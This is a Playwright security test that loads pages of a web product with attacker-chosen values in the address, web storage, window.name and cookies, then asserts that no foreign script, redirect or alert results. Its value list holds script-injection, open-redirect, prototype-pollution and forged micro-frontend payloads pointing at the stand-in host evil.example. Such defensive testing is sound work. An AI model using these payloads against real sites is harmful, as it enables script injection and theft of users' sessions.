import { paths } from '@cpal/shared/paths';
import { createRandom } from '@cpal/delivery/testing/random';
import type { Page } from '@playwright/test';
import { expect, test } from '../journey';

/** Documents that are opened with values that somebody else has chosen. */
const loads = 24;

const evil = 'https://evil.example';
const script = `${evil}/files/mfe-auth/remoteEntry.js`;

/** What could become an address, markup or code where it is taken for more than a text. */
const values = [
  script,
  '//evil.example/a.js',
  'javascript:alert(1)',
  'data:text/javascript,alert(1)',
  '"><script src="https://evil.example/a.js"></script>',
  `');import('${script}');//`,
  '/\\evil.example',
  '%2f%2fevil.example%2fa.js',
  '{"__proto__":{"entry":"https://evil.example/a.js"}}',
  JSON.stringify({
    remotes: [{ name: 'mfe-auth', prefixes: ['/'], entry: script, scripts: [script] }],
  }),
  '\u0000\u202e𝕏',
  'a'.repeat(3_000),
];

const names = [
  'next',
  'from',
  'redirect',
  'entry',
  'remotes',
  'session_id',
  'token',
  'plan',
  'access_token',
  'refresh_token',
  'cpal_release',
  'page',
  '__FEDERATION__',
  'importmap',
];

const pages = [paths.home(), paths.pricing(), paths.auth(), paths.licenseKeys(), '/nowhere'];

/** Some of the names, each with one of the values. */
function chosen(random: () => number): [name: string, value: string][] {
  const pick = <T>(all: readonly T[]) => all[Math.floor(random() * all.length)];
  return names.flatMap((name) => {
    const value = pick(values);
    return random() < 0.5 && value !== undefined ? [[name, value]] : [];
  });
}

/** Opens a page with values in its address, its storage, its name and its cookies. */
async function open(page: Page, origin: string, random: () => number) {
  const at = pages[Math.floor(random() * pages.length)] ?? '/';
  const stored = Object.fromEntries(chosen(random));
  await page.context().clearCookies();
  await page.context().addCookies(
    chosen(random)
      .filter(([, value]) => /^[!#-+\--:<-[\]-~]*$/.test(value))
      .map(([name, value]) => ({ name, value, url: origin })),
  );
  const query = new URLSearchParams(chosen(random));
  await page.goto(`${origin}/robots.txt`);
  await page.evaluate((all) => {
    for (const storage of [localStorage, sessionStorage]) {
      storage.clear();
      for (const [name, value] of Object.entries(all)) storage.setItem(name, value);
    }
    window.name = Object.values(all).join(' ');
  }, stored);
  await page.goto(`${origin}${at}?${query}#${query}`);
  await page.waitForFunction(() => performance.getEntriesByName('cpal:mounted').length > 0);
}

test.use({ expectedErrors: /Failed to load resource/ });

test('values of others in address, storage, name and cookies load no script from elsewhere', async ({
  page,
  product,
}) => {
  test.setTimeout(180_000);
  const elsewhere: string[] = [];
  // By the protocol: a route of Playwright's would take the requests to the product too, and its cache.
  const cdp = await page.context().newCDPSession(page);
  cdp.on('Fetch.requestPaused', ({ requestId, request: { url } }) => {
    elsewhere.push(url);
    const body = Buffer.from('window.isTaken = true;').toString('base64');
    const responseHeaders = [{ name: 'Content-Type', value: 'text/javascript' }];
    const answer = { requestId, responseCode: 200, responseHeaders, body };
    // The page may have left meanwhile.
    void cdp.send('Fetch.fulfillRequest', answer).catch(() => null);
  });
  const { host } = new URL(evil);
  const patterns = ['https://*', `http://${host}*`].map((urlPattern) => ({ urlPattern }));
  await cdp.send('Fetch.enable', { patterns });
  page.on('dialog', (dialog) => {
    elsewhere.push(dialog.message());
    void dialog.dismiss();
  });
  for (let seed = 1; seed <= loads; seed += 1) {
    await open(page, product.origin, createRandom(seed));
    const scripts = await page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map(({ name }) => new URL(name))
        .filter(({ pathname }) => pathname.endsWith('.js'))
        .map(({ origin }) => origin),
    );
    expect(scripts.filter((origin) => !origin.startsWith('http://localhost:'))).toEqual([]);
    expect(new URL(page.url()).origin).toBe(product.origin);
    expect(await page.evaluate(() => 'isTaken' in window)).toBe(false);
  }
  expect(elsewhere).toEqual([]);
});
